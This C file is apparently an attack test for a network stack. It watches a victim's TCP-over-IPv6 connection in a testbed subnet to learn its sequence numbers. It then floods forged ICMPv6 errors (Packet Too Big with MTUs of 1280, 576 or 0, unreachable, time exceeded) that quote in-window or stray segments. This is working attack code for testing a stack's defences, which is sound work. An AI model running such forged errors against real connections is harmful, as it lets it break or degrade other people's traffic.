/*
 * Forged ICMPv6 errors about a connection of somebody else, in the testbed's fd77::/64:
 * watched, so that what they quote is in flight, or is not.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tests/attack/raw.h"

#define FAR 0x20000000u  /* beyond any window */
#define IP6 40u
#define QUOTED (IP6 + 20u)

/* RFC 4443 section 3. */
static const struct {
	const char *name;
	uint8_t type, code;
	uint32_t mtu;         /* or what stands in its place */
	bool stray;           /* quotes what is not in flight */
} errors[] = {
	{ "ptb1280", 2, 0, 1280, false }, { "ptb576", 2, 0, 576, false }, { "ptb0", 2, 0, 0, false },
	{ "ptbstray", 2, 0, 1280, true }, { "noroute", 1, 0, 0, false }, { "denied", 1, 1, 0, false },
	{ "port", 1, 4, 0, false }, { "time", 3, 0, 0, false }, { "header", 4, 1, 6, false },
	{ "stray", 1, 4, 0, true },
};

struct watch6 {
	uint16_t port;
	uint8_t self[16], victim[16];
	bool up, down;
	uint32_t acked;       /* of the victim's */
	uint32_t victim_next;
};

static void
address(uint8_t a[16], uint8_t host)
{
	memset(a, 0, 16);
	a[0] = 0xfd;
	a[1] = 0x77;
	a[15] = host;
}

static void
see(const struct raw *r, struct watch6 *w, const uint8_t *frame, uint32_t len)
{
	const uint8_t *ip = frame + RAW_ETH, *t = ip + IP6;
	uint32_t end;

	if (len < RAW_ETH + IP6 + 20 || raw_get16(frame + 12) != 0x86dd || ip[6] != 6)
		return;
	if (memcmp(ip + 8, w->self, 16) == 0 && raw_get16(t) == w->port && raw_get16(t + 2) == r->port) {
		w->acked = raw_get32(t + 8);
		w->up = true;
	} else if (memcmp(ip + 24, w->self, 16) == 0 && raw_get16(t + 2) == w->port) {
		end = raw_get32(t + 4) + raw_get16(ip + 4) - (t[12] >> 4) * 4u;
		if (!w->down || (int32_t)(end - w->victim_next) > 0)
			w->victim_next = end;
		w->down = true;
	}
}

static bool
look(struct raw *r, struct watch6 *w)
{
	uint64_t end = raw_now_ms() + 20000;
	uint8_t buf[RAW_FRAME];
	bool sent;

	for (;;) {
		bool ready = w->up && w->down;
		uint32_t n = raw_recv(r, buf, sizeof(buf), ready ? 0 : 100, &sent);

		if (n == 0 && (ready || raw_now_ms() > end))
			return ready;
		if (n > 0)
			see(r, w, buf, n);
	}
}

static void
headers(struct raw *r, uint8_t *frame, uint32_t len)
{
	memcpy(frame, r->peer, 6);
	memcpy(frame + 6, r->mac, 6);
	raw_put16(frame + 12, 0x86dd);
	memset(frame + RAW_ETH, 0, IP6 + len);
	frame[RAW_ETH] = 0x60;
	raw_put16(frame + RAW_ETH + 4, len);
	frame[RAW_ETH + 6] = 58;
	frame[RAW_ETH + 7] = 64;
}

static void
error(struct raw *r, const struct watch6 *w, size_t k)
{
	uint32_t len = 8 + QUOTED, sum = 58 + len;
	uint8_t *frame = raw_next(r), *ip = frame + RAW_ETH, *p = ip + IP6, *q = p + 8, *t = q + IP6;
	uint32_t seq = w->acked + raw_below(r, w->victim_next - w->acked + 1);

	headers(r, frame, len);
	address(ip + 8, 61);
	memcpy(ip + 24, w->victim, 16);
	p[0] = errors[k].type;
	p[1] = errors[k].code;
	raw_put32(p + 4, errors[k].mtu);
	q[0] = 0x60;
	raw_put16(q + 4, 1440);
	q[6] = 6;
	q[7] = 63;
	memcpy(q + 8, w->victim, 16);
	memcpy(q + 24, w->self, 16);
	raw_put16(t, r->port);
	raw_put16(t + 2, w->port);
	raw_put32(t + 4, errors[k].stray ? w->victim_next + FAR + raw_below(r, FAR) : seq);
	t[12] = 0x50;
	t[13] = RAW_ACK;
	for (uint32_t i = 8; i < IP6; i += 2)
		sum += raw_get16(ip + i);
	raw_put16(p + 2, raw_sum(p, len, sum));
	raw_push(r, RAW_ETH + IP6 + len);
}

int
attack_icmp6(struct raw *r, char **arg)
{
	uint64_t count = strtoull(arg[1], NULL, 10);
	struct watch6 w = { .port = (uint16_t)strtoul(arg[2], NULL, 10) };
	size_t k = 0;

	address(w.victim, 1);
	address(w.self, 2);
	while (k < sizeof(errors) / sizeof(errors[0]) && strcmp(errors[k].name, arg[0]) != 0)
		k++;
	if (k == sizeof(errors) / sizeof(errors[0]))
		return 1;
	if (!look(r, &w)) {
		fprintf(stderr, "the connection is not seen\n");
		return 1;
	}
	for (uint64_t i = 0; i < count; i++) {
		error(r, &w, k);
		if (r->count == 0 && !look(r, &w))
			return 1;
	}
	raw_flush(r);
	printf("sent %llu\n", (unsigned long long)r->sent);
	return 0;
}
